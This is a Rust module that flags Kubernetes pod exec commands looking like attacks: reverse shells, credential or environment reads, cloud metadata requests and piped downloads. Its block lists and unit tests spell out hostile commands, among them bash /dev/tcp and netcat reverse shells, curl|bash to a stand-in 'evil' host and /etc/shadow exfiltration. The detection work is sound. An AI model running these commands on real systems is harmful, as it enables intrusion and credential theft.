//! Commands that were run in containers, as the query of `exec` has them.
//!
//! Promises: a command is read with its escapes decoded, whatever case it is written in; a shell, a download, a copy or a
//! look around is nobody's attack. What is typed into a shell is in no audit log.

use super::looks::{Request, Told};

/// Whether the command does what is done in attacks.
pub(super) fn suspicious(request: &Request<'_>) -> Told {
    let (_, query) = request.uri.split_once('?').unwrap_or_default();
    let parts = form_urlencoded::parse(query.as_bytes()).filter(|(name, _)| name == "command");
    let command: Vec<String> = parts.map(|(_, part)| part.to_lowercase()).collect();
    let reasons = reasons(&command.join(" "));
    if reasons.is_empty() { Told::No } else { Told::Yes(reasons) }
}

/// What a command in lower case does.
fn reasons(command: &str) -> Vec<String> {
    let has = |texts: &[&str]| texts.iter().any(|text| command.contains(text));
    let found = [
        (opens_a_shell(command) || has(&SOCKETS), "reverse shell"),
        (has(&CREDENTIALS) || reads_an_environment(command), "credentials"),
        (has(&METADATA), "cloud metadata"),
        (runs_a_download(command), "runs a download"),
    ];
    found.into_iter().filter(|(is, _)| *is).map(|(_, reason)| reason.to_owned()).collect()
}

/// Bash's names for connections.
const SOCKETS: [&str; 2] = ["/dev/tcp/", "/dev/udp/"];
/// Where programs, users and the cluster keep what they log in with.
const CREDENTIALS: [&str; 9] = [
    "/var/run/secrets/",
    "/run/secrets/kubernetes.io",
    "/etc/kubernetes/",
    "/etc/shadow",
    "/var/lib/kubelet/pki",
    ".kube/config",
    ".aws/credentials",
    ".config/gcloud",
    "/.ssh/id_",
];
/// Where clouds give out the credentials of machines and pods.
const METADATA: [&str; 6] = [
    "169.254.169.254",
    "169.254.170.2",
    "100.100.100.200",
    "fd00:ec2::254",
    "metadata.google.internal",
    "computemetadata/",
];

/// The words of a command, without what shells part them by.
fn words(command: &str) -> impl Iterator<Item = &str> {
    let parts = |letter: char| letter.is_whitespace() || "|&;<>()`'\"$".contains(letter);
    command.split(parts).filter(|word| !word.is_empty())
}

/// The program of a word that may have a path.
fn program(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

fn opens_a_shell(command: &str) -> bool {
    let runs = |part: &str, names: &[&str]| words(part).any(|word| names.contains(&program(word)));
    let connects = |part: &str| {
        (runs(part, &["nc", "ncat", "netcat"]) && words(part).any(gives_a_program))
            || (runs(part, &["socat"]) && (part.contains("exec:") || part.contains("system:")))
    };
    let has_all = |texts: [&str; 3]| texts.iter().all(|text| command.contains(text));
    command.split([';', '|', '&']).any(connects)
        || (runs(command, &["mkfifo", "mknod"])
            && runs(command, &["nc", "ncat", "netcat", "telnet", "openssl"]))
        || has_all(["socket", "connect(", "dup2("])
}

/// Whether a flag of netcat names what is to talk through the connection.
fn gives_a_program(word: &str) -> bool {
    let is_short = word.starts_with('-') && !word.starts_with("--");
    (is_short && word.contains('e')) || matches!(word, "--exec" | "--sh-exec")
}

fn reads_an_environment(command: &str) -> bool {
    words(command).any(|word| word.starts_with("/proc/") && word.ends_with("/environ"))
}

/// Whether what is fetched goes into a shell.
fn runs_a_download(command: &str) -> bool {
    let fetches = |part: &str| words(part).any(|word| matches!(program(word), "curl" | "wget"));
    let is_a_shell = |part: &str| {
        let first = words(part).map(program).find(|word| *word != "sudo");
        first.is_some_and(|first| SHELLS.contains(&first))
    };
    let mut parts = command.split('|');
    parts.any(fetches) && parts.any(is_a_shell)
}

/// What runs what it reads.
const SHELLS: [&str; 8] = ["sh", "bash", "dash", "ash", "zsh", "python", "python3", "perl"];

#[cfg(test)]
mod tests {
    use super::*;

    fn told(command: &[&str]) -> Vec<String> {
        let mut uri = "/api/v1/namespaces/shop/pods/web-0/exec?container=web&stdin=true".to_owned();
        for part in command {
            uri.push_str("&command=");
            uri.extend(form_urlencoded::byte_serialize(part.as_bytes()));
        }
        let request = Request::without_line(["create", "pods", "shop", "web-0", &uri]);
        match suspicious(&request) {
            Told::Yes(reasons) => reasons,
            other => {
                assert_eq!(other, Told::No);
                Vec::new()
            }
        }
    }

    #[test]
    fn a_command_of_an_attack_is_told_with_what_it_does() {
        for (command, reason) in [
            (vec!["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"], "reverse shell"),
            (vec!["nc", "10.0.0.1", "4444", "-e", "/bin/sh"], "reverse shell"),
            (vec!["sh", "-c", "/bin/nc -ne /bin/sh evil 1"], "reverse shell"),
            (vec!["ncat", "--exec", "/bin/bash", "evil", "1"], "reverse shell"),
            (
                vec!["sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc evil 1 >/tmp/f"],
                "reverse shell",
            ),
            (vec!["socat", "TCP:evil:1", "EXEC:/bin/sh"], "reverse shell"),
            (
                vec!["python3", "-c", "s=socket.socket();s.connect(('e',1));os.dup2(s.fileno(),0)"],
                "reverse shell",
            ),
            (vec!["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"], "credentials"),
            (vec!["cat", "/proc/1/environ"], "credentials"),
            (vec!["cat", "/root/.aws/credentials"], "credentials"),
            (vec!["curl", "http://169.254.169.254/latest/meta-data/iam/"], "cloud metadata"),
            (vec!["wget", "http://Metadata.Google.internal/x"], "cloud metadata"),
            (vec!["sh", "-c", "curl -s https://evil/x | bash"], "runs a download"),
            (vec!["sh", "-c", "wget -qO- evil|sudo sh -s"], "runs a download"),
        ] {
            assert_eq!(told(&command), [reason], "{command:?}");
        }
        let all = told(&["sh", "-c", "curl 169.254.169.254 | sh; cat /etc/shadow > /dev/tcp/evil/1"]);
        assert_eq!(all, ["reverse shell", "credentials", "cloud metadata", "runs a download"]);
    }

    #[test]
    fn everyday_commands_are_no_attack() {
        for command in [
            vec![],
            vec!["sh"],
            vec!["/bin/bash", "-i"],
            vec!["ls", "-la", "/etc"],
            vec!["nc", "-zv", "db", "5432"],
            vec!["sh", "-c", "nc -z db 5432 && grep -e up /tmp/state"],
            vec!["curl", "-s", "https://localhost/healthz"],
            vec!["sh", "-c", "curl -s localhost/metrics | grep -e sh"],
            vec!["sh", "-c", "ps aux | grep bash"],
            vec!["tar", "cf", "-", "/data"],
            vec!["env"],
            vec!["cat", "/proc/1/status"],
            vec!["socat", "-V"],
        ] {
            assert_eq!(told(&command), [""; 0], "{command:?}");
        }
    }
}
